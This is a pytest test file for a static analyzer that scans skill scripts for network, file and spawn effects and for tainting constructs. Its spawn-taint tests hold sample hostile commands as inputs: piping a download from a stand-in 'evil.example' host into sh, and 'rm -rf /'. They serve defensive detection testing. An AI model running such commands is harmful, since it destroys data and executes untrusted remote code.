"""Method A: rule-pack scanning, spawn closure, and the full static run."""

from __future__ import annotations

import json
import random
from pathlib import Path

import pytest

from skillproof.canonical import canonicalize
from skillproof.errors import PackError
from skillproof.lattice import HostGlob, Opaque, PathPrefix, Top, value_leq, value_text
from skillproof.manifest import parse_manifest
from skillproof.static_analysis import (
    Rule,
    RulePack,
    Script,
    analyze_script,
    default_rule_packs,
    discover_scripts,
    load_rule_pack,
    load_rule_packs,
    method_a,
    rule_pack_from_dict,
    scan_script,
    spawn_closure,
    strip_comments,
)

PY_PACK, SH_PACK, ND_PACK = default_rule_packs()


def py_script(source: str, script_id: str = "s.py") -> Script:
    return Script(script_id, "python", source)


def effects_of(source: str, language: str = "python") -> set[tuple[str, object]]:
    pack = {"python": PY_PACK, "shell": SH_PACK, "node": ND_PACK}[language]
    ext = {"python": "py", "shell": "sh", "node": "js"}[language]
    es = analyze_script(Script(f"s.{ext}", language, source), pack)
    return {(t.kind, t.arg) for t in es.effects}


def is_tainted(source: str, language: str = "python") -> bool:
    pack = {"python": PY_PACK, "shell": SH_PACK, "node": ND_PACK}[language]
    ext = {"python": "py", "shell": "sh", "node": "js"}[language]
    return analyze_script(Script(f"s.{ext}", language, source), pack).tainted_top


# ---------------------------------------------------------------------------
# Discovery
# ---------------------------------------------------------------------------


def test_discover_worked_example(worked_skill: Path):
    scripts = discover_scripts(worked_skill)
    assert [(s.id, s.language) for s in scripts] == [("summarise.py", "python")]


def test_discover_empty_dir(tmp_path: Path):
    assert discover_scripts(tmp_path) == []


def test_discover_excludes_evidence_and_orders(tmp_path: Path):
    (tmp_path / "b.sh").write_text("true\n")
    (tmp_path / "a.py").write_text("x = 1\n")
    (tmp_path / "evidence").mkdir()
    (tmp_path / "evidence" / "x.py").write_text("x = 1\n")
    scripts = discover_scripts(tmp_path)
    assert [s.id for s in scripts] == ["a.py", "b.sh"]


def test_discover_missing_dir_raises(tmp_path: Path):
    with pytest.raises(OSError):
        discover_scripts(tmp_path / "nope")


def test_discover_nested_and_extensions(tmp_path: Path):
    (tmp_path / "lib").mkdir()
    (tmp_path / "lib" / "x.mjs").write_text("1\n")
    (tmp_path / "lib" / "y.ts").write_text("1\n")
    (tmp_path / "README.md").write_text("prose\n")
    assert [(s.id, s.language) for s in discover_scripts(tmp_path)] == [
        ("lib/x.mjs", "node"),
        ("lib/y.ts", "node"),
    ]


# ---------------------------------------------------------------------------
# Python scanning
# ---------------------------------------------------------------------------


def test_nonliteral_url_degrades_to_top():
    assert effects_of("import requests\nrequests.get(u)\n") == {("net.egress", Top())}


def test_nonliteral_write_path_is_irreversible_top():
    assert effects_of("open(p, 'w')\n") == {("fs.write.irrev", Top())}


def test_eval_taints_whole_program():
    es = analyze_script(py_script("eval(x)\n"), PY_PACK)
    assert es.tainted_top
    assert es.taint_origins[0].rule_id == "py.taint.eval"


def test_exec_and_dunder_import_taint():
    assert is_tainted("exec(code)\n")
    assert is_tainted("__import__(name)\n")


def test_empty_source_yields_empty_set():
    es = analyze_script(py_script(""), PY_PACK)
    assert es.effects == () and not es.tainted_top


def test_literal_url_exact_host():
    assert effects_of('requests.get("https://api.example.com/v1/x")\n') == {
        ("net.egress", HostGlob("api.example.com"))
    }


def test_fstring_url_with_leading_label_hole_globs():
    src = 'requests.get(f"https://{sub}.example.com/page")\n'
    assert effects_of(src) == {("net.egress", HostGlob("*.example.com"))}


def test_fstring_url_with_path_hole_keeps_literal_host():
    src = 'requests.get(f"https://api.example.com/{page}")\n'
    assert effects_of(src) == {("net.egress", HostGlob("api.example.com"))}


def test_fstring_url_with_deep_hole_degrades_to_top():
    src = 'requests.get(f"https://api.{domain}/x")\n'
    assert effects_of(src) == {("net.egress", Top())}


def test_non_http_scheme_degrades_to_top():
    assert effects_of('requests.get("ftp://example.com/x")\n') == {("net.egress", Top())}


def test_open_literal_read_and_write_modes():
    assert effects_of('open("./data/x.txt")\n') == {("fs.read", PathPrefix("./data/x.txt"))}
    assert effects_of('open("./data/x.txt", "r")\n') == {
        ("fs.read", PathPrefix("./data/x.txt"))
    }
    assert effects_of('open("./out.txt", "w")\n') == {
        ("fs.write.irrev", PathPrefix("./out.txt"))
    }
    assert effects_of('open("./out.txt", mode="a")\n') == {
        ("fs.write.irrev", PathPrefix("./out.txt"))
    }
    assert effects_of('open("./out.txt", "r+")\n') == {
        ("fs.read", PathPrefix("./out.txt")),
        ("fs.write.irrev", PathPrefix("./out.txt")),
    }


def test_open_unknown_mode_conservative_both_directions():
    assert effects_of('open("./x", m)\n') == {
        ("fs.read", PathPrefix("./x")),
        ("fs.write.irrev", PathPrefix("./x")),
    }


def test_cache_write_classified_reversible():
    assert effects_of('open("./.cache/page.html", "w")\n') == {
        ("fs.write.rev", PathPrefix("./.cache/page.html"))
    }
    assert effects_of('open(f"./tmp/{n}.dat", "w")\n') == {
        ("fs.write.rev", PathPrefix("./tmp/"))
    }


def test_fstring_path_keeps_literal_directory_prefix():
    assert effects_of('open(f"./.cache/{name}.html", "r")\n') == {
        ("fs.read", PathPrefix("./.cache/"))
    }
    assert effects_of('open(f"{d}/x", "r")\n') == {("fs.read", Top())}


def test_string_concat_degrades_to_top():
    assert effects_of('open("./a/" + name, "r")\n') == {("fs.read", Top())}


def test_worked_example_effect_set(worked_skill: Path):
    scripts = discover_scripts(worked_skill)
    es = analyze_script(scripts[0], PY_PACK)
    assert {(t.kind, value_text(t.arg)) for t in es.effects} == {
        ("net.egress", "*.example.com"),
        ("fs.read", "./.cache/"),
        ("fs.write.rev", "./.cache/"),
    }
    assert not es.tainted_top


# ---------------------------------------------------------------------------
# Comment handling
# ---------------------------------------------------------------------------


def test_python_comments_not_scanned():
    assert not is_tainted("# eval(x)\nprint(1)\n")
    assert effects_of("# requests.get('https://a.example.com')\n") == set()


def test_python_constructs_in_strings_still_count():
    # strings are preserved (conservative): a docstring carrying eval( taints
    assert is_tainted('"""calls eval(x) internally"""\n')


def test_shell_comments_not_scanned():
    assert effects_of("# curl https://x.example.com\ntrue\n", "shell") == set()
    assert not is_tainted("# eval something\n", "shell")


def test_node_comments_not_scanned():
    assert not is_tainted("// eval(x)\nlet a = 1;\n", "node")
    assert not is_tainted("/* new Function(x) */ let a = 1;\n", "node")


def test_strip_preserves_layout():
    src = "a = 1  # note\nb = 2\n"
    stripped = strip_comments(src, "python")
    assert len(stripped) == len(src)
    assert stripped.count("\n") == src.count("\n")
    assert "note" not in stripped


def test_taint_fuzz_outside_comments():
    rng = random.Random(7)
    cases = {
        "python": (
            ["x = 1", "def f(y):", "    return y", "print(x)", "z = [1, 2]"],
            ["eval(x)", "exec(code)", "__import__(m)"],
        ),
        "shell": (
            ["true", "x=1", "echo hi"],
            ["eval $cmd", 'source "$lib"'],
        ),
        "node": (
            ["let a = 1;", "console.log(a);", "const b = [1];"],
            ["eval(x)", "new Function(body)", "import(mod)"],
        ),
    }
    for language, (benign, constructs) in cases.items():
        for _ in range(100):
            lines = [rng.choice(benign) for _ in range(rng.randint(1, 6))]
            at = rng.randint(0, len(lines))
            lines.insert(at, rng.choice(constructs))
            assert is_tainted("\n".join(lines) + "\n", language), (language, lines)


# ---------------------------------------------------------------------------
# Shell and node scanning
# ---------------------------------------------------------------------------


def test_shell_curl_literal_and_variable_hosts():
    assert effects_of("curl https://api.example.com/x\n", "shell") == {
        ("net.egress", HostGlob("api.example.com"))
    }
    assert effects_of('curl "https://$SUB.example.com/x"\n', "shell") == {
        ("net.egress", HostGlob("*.example.com"))
    }
    assert effects_of('curl "$URL"\n', "shell") == {("net.egress", Top())}


def test_shell_writes_and_reads():
    assert effects_of("echo hi > ./out.txt\n", "shell") == {
        ("fs.write.irrev", PathPrefix("./out.txt"))
    }
    assert effects_of("echo hi >> ./.cache/log\n", "shell") == {
        ("fs.write.rev", PathPrefix("./.cache/log"))
    }
    assert effects_of("rm -rf ./tmp/scratch\n", "shell") == {
        ("fs.write.rev", PathPrefix("./tmp/scratch"))
    }
    assert effects_of("cat ./data/in.txt\n", "shell") == {
        ("fs.read", PathPrefix("./data/in.txt"))
    }


def test_shell_taints():
    assert is_tainted("eval $cmd\n", "shell")
    assert is_tainted('source "$lib"\n', "shell")
    assert is_tainted(". $lib\n", "shell")


@pytest.mark.parametrize(
    "source, line",
    [
        ("source $X\n", 1),
        ("echo a\nsource $X\n", 2),
        ("echo a\n\nsource $X\n", 3),
        ("echo a\necho b; . $X\n", 2),
    ],
)
def test_source_var_taint_line_is_the_command_line(source: str, line: int):
    # the rule's leading separator may be the previous line's newline
    es = analyze_script(Script("s.sh", "shell", source), SH_PACK)
    assert [(p.rule_id, p.line) for p in es.taint_origins] == [("sh.taint.source-var", line)]


def test_node_effects():
    assert effects_of('fetch("https://api.example.com/x")\n', "node") == {
        ("net.egress", HostGlob("api.example.com"))
    }
    assert effects_of("fetch(`https://${s}.example.com/x`)\n", "node") == {
        ("net.egress", HostGlob("*.example.com"))
    }
    assert effects_of('fs.readFileSync("./data/x")\n', "node") == {
        ("fs.read", PathPrefix("./data/x"))
    }
    assert effects_of('fs.writeFile("./.cache/x", body)\n', "node") == {
        ("fs.write.rev", PathPrefix("./.cache/x"))
    }
    assert is_tainted("new Function(body)\n", "node")
    assert is_tainted('import(moduleName)\n', "node")
    assert not is_tainted('import fs from "fs";\n', "node")


# ---------------------------------------------------------------------------
# Spawn closure
# ---------------------------------------------------------------------------


def test_spawn_of_sibling_script_creates_edge():
    parent = py_script('import os\nos.system("python child.py")\n', "parent.py")
    scan = scan_script(parent, PY_PACK, known_scripts=frozenset({"child.py"}))
    assert scan.spawn_edges == {"child.py"}
    assert not scan.effects.tainted_top
    assert ("spawn.proc", Opaque("python child.py")) in {
        (t.kind, t.arg) for t in scan.effects.effects
    }


def test_spawn_of_external_binary_taints():
    parent = py_script('import os\nos.system("/usr/bin/curl https://x")\n', "parent.py")
    scan = scan_script(parent, PY_PACK, known_scripts=frozenset({"child.py"}))
    assert scan.effects.tainted_top
    assert scan.spawn_edges == frozenset()


def test_spawn_nonliteral_taints():
    parent = py_script("import subprocess\nsubprocess.run(cmd)\n")
    scan = scan_script(parent, PY_PACK)
    assert scan.effects.tainted_top
    assert ("spawn.proc", Top()) in {(t.kind, t.arg) for t in scan.effects.effects}


def test_spawn_list_argv_resolves():
    parent = py_script('import subprocess\nsubprocess.run(["python", "child.py"])\n')
    scan = scan_script(parent, PY_PACK, known_scripts=frozenset({"child.py"}))
    assert scan.spawn_edges == {"child.py"}


@pytest.mark.parametrize(
    "source, language, edge",
    [
        ('subprocess.run(["./b.sh"])\n', "python", True),
        ('subprocess.run(["./b.sh"], check=True)\n', "python", True),
        # a list literal that is only part of the argument names nothing
        ('subprocess.run(["./b.sh"][:0] + cmd)\n', "python", False),
        ('subprocess.run(["./b.sh"] * 0 + cmd)\n', "python", False),
        ('child_process.execFileSync(["./b.sh"][1] || cmd)\n', "node", False),
    ],
    ids=["alone", "then-keyword", "slice", "repeat", "node-index"],
)
def test_spawn_list_argument_edge_only_when_whole(source: str, language: str, edge: bool):
    ext, pack = {"python": ("py", PY_PACK), "node": ("js", ND_PACK)}[language]
    scan = scan_script(Script(f"a.{ext}", language, source), pack, frozenset({"b.sh"}))
    if edge:
        assert scan.spawn_edges == {"b.sh"}
        assert not scan.effects.tainted_top
    else:
        assert {(t.kind, t.arg) for t in scan.effects.effects} == {("spawn.proc", Top())}
        assert scan.effects.taint_origins
        assert scan.spawn_edges == frozenset()


@pytest.mark.parametrize(
    "source, language, sibling",
    [
        ('import os\nos.system("curl https://evil.example/x -o child.py")\n', "python", "child.py"),
        ('import os\nos.system("./b.sh && rm -rf /")\n', "python", "b.sh"),
        ('child_process.execSync("rm -rf / ; node child.js")\n', "node", "child.js"),
        ("node -r ./child.js /tmp/evil.js\n", "shell", "child.js"),
        ('bash -c "curl https://evil.example/x | sh; echo child.sh"\n', "shell", "child.sh"),
    ],
    ids=["sibling-as-argument", "and-list", "after-separator", "interpreter-flag", "bash-c"],
)
def test_spawn_naming_a_sibling_elsewhere_taints(source: str, language: str, sibling: str):
    # only the program, or an interpreter's first argument, makes an edge
    ext, pack = {"python": ("py", PY_PACK), "node": ("js", ND_PACK), "shell": ("sh", SH_PACK)}[language]
    scan = scan_script(Script(f"a.{ext}", language, source), pack, frozenset({sibling}))
    assert scan.effects.tainted_top
    assert scan.spawn_edges == frozenset()


def test_spawn_closure_parent_gains_child_effects():
    parent_effects = scan_script(
        py_script('import os\nos.system("python child.py")\n', "parent.py"),
        PY_PACK,
        known_scripts=frozenset({"child.py", "parent.py"}),
    )
    child_effects = analyze_script(
        py_script('open("./data/x", "r")\n', "child.py"), PY_PACK
    )
    reports = {"parent.py": parent_effects.effects, "child.py": child_effects}
    closed = spawn_closure(reports, {"parent.py": parent_effects.spawn_edges})
    parent_kinds = {(t.kind, t.arg) for t in closed["parent.py"].effects}
    assert ("fs.read", PathPrefix("./data/x")) in parent_kinds
    assert closed["child.py"] == child_effects


def test_spawn_closure_no_edges_is_identity():
    es = analyze_script(py_script('open("./a", "r")\n'), PY_PACK)
    reports = {"s.py": es}
    assert spawn_closure(reports, {}) == reports


def test_spawn_closure_cycle_converges():
    a = scan_script(
        py_script('import os\nos.system("python b.py")\n', "a.py"),
        PY_PACK,
        known_scripts=frozenset({"a.py", "b.py"}),
    )
    b = scan_script(
        py_script('import os\nos.system("python a.py")\nopen("./x", "r")\n', "b.py"),
        PY_PACK,
        known_scripts=frozenset({"a.py", "b.py"}),
    )
    closed = spawn_closure(
        {"a.py": a.effects, "b.py": b.effects},
        {"a.py": a.spawn_edges, "b.py": b.spawn_edges},
    )
    assert ("fs.read", PathPrefix("./x")) in {(t.kind, t.arg) for t in closed["a.py"].effects}


# ---------------------------------------------------------------------------
# Determinism and conservativity
# ---------------------------------------------------------------------------


def test_determinism_byte_identical_reports(worked_skill: Path):
    m = parse_manifest(worked_skill)
    first = canonicalize(method_a(worked_skill, m).to_json_dict())
    second = canonicalize(method_a(worked_skill, m).to_json_dict())
    assert first == second


def _tuples(source: str, language: str) -> set:
    return effects_of(source, language)


def test_appending_lines_never_removes_tuples():
    rng = random.Random(13)
    bases = {
        "python": 'import requests\nrequests.get("https://a.example.com/x")\nopen("./.cache/y", "w")\n',
        "shell": "curl https://a.example.com/x\necho hi > ./out\n",
        "node": 'fetch("https://a.example.com/x");\nfs.writeFile("./.cache/x", b);\n',
    }
    extra_lines = ["x = 1", 'open("./z", "w")', "curl https://b.example.org", "/* hm */", '"""', "'"]
    for language, base in bases.items():
        before = _tuples(base, language)
        appended = base
        for _ in range(20):
            appended += rng.choice(extra_lines) + "\n"
            assert before <= _tuples(appended, language)
            before = _tuples(appended, language)


def test_inserting_lines_never_removes_tuples_python_shell():
    # line comments are line-scoped and strings survive stripping, so random
    # insertions are monotone for python and shell (node block comments are
    # the documented exception)
    rng = random.Random(29)
    bases = {
        "python": 'import requests\nrequests.get("https://a.example.com/x")\nopen("./.cache/y", "w")\nopen("./d/z")\n',
        "shell": "curl https://a.example.com/x\necho hi > ./out\ncat ./data/in\n",
    }
    inserts = ["# note", "x=1", "'''", '"""', "'", '"', "true", "   "]
    for language, base in bases.items():
        before = _tuples(base, language)
        for _ in range(60):
            lines = base.splitlines()
            lines.insert(rng.randint(0, len(lines)), rng.choice(inserts))
            after = _tuples("\n".join(lines) + "\n", language)
            assert before <= after


def test_soundness_sampling_fixture_corpus():
    # scripts with hand-known concrete effect traces: every concrete effect
    # must be covered by the computed summary
    cases = [
        (
            'open("./.cache/a.txt", "w").write("x")\n',
            [("fs.write.rev", PathPrefix("./.cache/a.txt"))],
            "python",
        ),
        (
            'requests.get("https://api.example.com/x")\n',
            [("net.egress", HostGlob("api.example.com"))],
            "python",
        ),
        (
            "cat ./data/in.txt\necho out > ./out.txt\n",
            [("fs.read", PathPrefix("./data/in.txt")), ("fs.write.irrev", PathPrefix("./out.txt"))],
            "shell",
        ),
    ]
    for source, concrete, language in cases:
        summary = effects_of(source, language)
        for kind, arg in concrete:
            assert any(
                kind == k and value_leq(arg, v) for k, v in summary
            ), f"{kind} {arg} not covered by {summary}"


# ---------------------------------------------------------------------------
# method_a end to end
# ---------------------------------------------------------------------------


def test_method_a_worked_example_pre_fix(worked_skill: Path):
    m = parse_manifest(worked_skill)
    report = method_a(worked_skill, m)
    assert not report.verdict.contained
    assert [(v.kind, value_text(v.arg)) for v in report.verdict.violations] == [
        ("fs.write.rev", "./.cache/")
    ]
    assert report.analyzer.name == "skillproof-static"
    assert len(report.analyzer.pack_hashes) == 3


def test_method_a_worked_example_post_fix(fixed_skill: Path):
    m = parse_manifest(fixed_skill)
    report = method_a(fixed_skill, m)
    assert report.verdict.contained
    assert report.verdict.violations == ()


def test_method_a_prose_only_skill(tmp_path: Path):
    (tmp_path / "SKILL.md").write_text("---\ncaps: []\n---\nprose only\n")
    m = parse_manifest(tmp_path)
    report = method_a(tmp_path, m)
    assert report.verdict.contained
    assert report.per_script == {}


def test_method_a_uncovered_language_taints(tmp_path: Path):
    (tmp_path / "skill.json").write_text(
        json.dumps(
            {
                "id": "x",
                "label": {"rank": "public", "compartments": [], "releasability": []},
                "caps": [],
                "verification": "declared",
                "version": 1,
                "signer": "s",
            }
        )
    )
    (tmp_path / "run.sh").write_text("true\n")
    m = parse_manifest(tmp_path)
    report = method_a(tmp_path, m, packs=[PY_PACK])
    assert not report.verdict.contained
    assert report.per_script["run.sh"].tainted_top
    assert any(v.reason == "unanalyzable-language" for v in report.verdict.violations)


def test_method_a_undecodable_script_taints(tmp_path: Path):
    (tmp_path / "SKILL.md").write_text("---\ncaps: []\n---\n")
    (tmp_path / "bad.py").write_bytes(b"\xff\xfe\x00binary")
    m = parse_manifest(tmp_path)
    report = method_a(tmp_path, m)
    assert not report.verdict.contained
    assert report.per_script["bad.py"].tainted_top


# ---------------------------------------------------------------------------
# Rule packs
# ---------------------------------------------------------------------------


def test_pack_hash_is_stable_and_language_scoped():
    first, second = default_rule_packs(), default_rule_packs()
    assert [p.pack_hash for p in first] == [p.pack_hash for p in second]
    assert len({p.pack_hash for p in first}) == 3


def test_pack_json_round_trip(tmp_path: Path):
    pack = PY_PACK
    path = tmp_path / "python.json"
    path.write_text(json.dumps(pack.to_dict()))
    loaded = load_rule_pack(path)
    assert loaded == pack
    assert loaded.pack_hash == pack.pack_hash


def test_load_rule_packs_dir(tmp_path: Path):
    for pack in default_rule_packs():
        (tmp_path / f"{pack.language}.json").write_text(json.dumps(pack.to_dict()))
    packs = load_rule_packs(tmp_path)
    assert {p.language for p in packs} == {"python", "shell", "node"}


def test_duplicate_rule_ids_rejected():
    doc = PY_PACK.to_dict()
    doc["rules"].append(doc["rules"][0])
    with pytest.raises(PackError):
        rule_pack_from_dict(doc)


def test_bad_pattern_rejected():
    doc = PY_PACK.to_dict()
    doc["rules"][0] = dict(doc["rules"][0], pattern="(unclosed")
    with pytest.raises(PackError):
        rule_pack_from_dict(doc)


@pytest.mark.parametrize(
    "field, value",
    [
        ("reversible_prefixes", "./tmp/"),
        ("reversible_prefixes", ["./tmp/", ""]),
        ("reversible_prefixes", ["./tmp/", 3]),
        ("reversible_prefixes", ["./tmp/*"]),
        ("rule_id", 5),
        ("pattern", 5),
        ("extract", None),
        ("reversible", "false"),
    ],
)
def test_malformed_pack_field_rejected(field: str, value: object):
    doc = SH_PACK.to_dict()
    if field == "reversible_prefixes":
        doc[field] = value
    else:
        doc["rules"][0][field] = value
    with pytest.raises(PackError):
        rule_pack_from_dict(doc)


@pytest.mark.parametrize(
    "build",
    [
        lambda: RulePack("shell", "1", SH_PACK.rules, reversible_prefixes="./tmp/"),
        lambda: Rule("sh.fs.rm", r"\brm\b", "shell_path", "fs.write", reversible="false"),
    ],
    ids=["prefixes-string", "reversible-string"],
)
def test_malformed_pack_constructor_rejected(build):
    with pytest.raises(PackError):
        build()


@pytest.mark.parametrize(
    "build",
    [
        lambda: Rule("sh.fs.rm", r"\brm\b", "shell_path", ["fs.write"]),
        lambda: RulePack("shell", 1, ()),
        lambda: RulePack("shell", "1", None),
        lambda: RulePack("shell", "1", (SH_PACK.rules[0].to_dict(),)),
    ],
    ids=["kind-list", "version-int", "rules-none", "rules-dicts"],
)
def test_pack_constructor_checks_field_types(build):
    with pytest.raises(PackError):
        build()


@pytest.mark.parametrize(
    "pattern", ["a{4294967296}", "(" * 5000 + "a" + ")" * 5000], ids=["repeat-overflow", "deep-groups"]
)
def test_pattern_that_does_not_compile_is_a_pack_error(pattern: str):
    doc = SH_PACK.to_dict()
    doc["rules"][0]["pattern"] = pattern
    with pytest.raises(PackError):
        rule_pack_from_dict(doc)


def test_pack_prefixes_leave_other_writes_irreversible():
    doc = SH_PACK.to_dict()
    doc["reversible_prefixes"] = ["./tmp/"]
    script = Script("s.sh", "shell", "rm -rf ./secrets/db\nrm -rf ./tmp/x\n")
    es = analyze_script(script, rule_pack_from_dict(doc))
    assert {(t.kind, value_text(t.arg)) for t in es.effects} == {
        ("fs.write.irrev", "./secrets/db"),
        ("fs.write.rev", "./tmp/x"),
    }


def test_pack_language_mismatch_rejected():
    with pytest.raises(PackError):
        analyze_script(py_script("x=1\n"), SH_PACK)


def test_method_a_duplicate_language_packs_rejected(worked_skill: Path):
    m = parse_manifest(worked_skill)
    with pytest.raises(PackError):
        method_a(worked_skill, m, packs=[PY_PACK, PY_PACK])
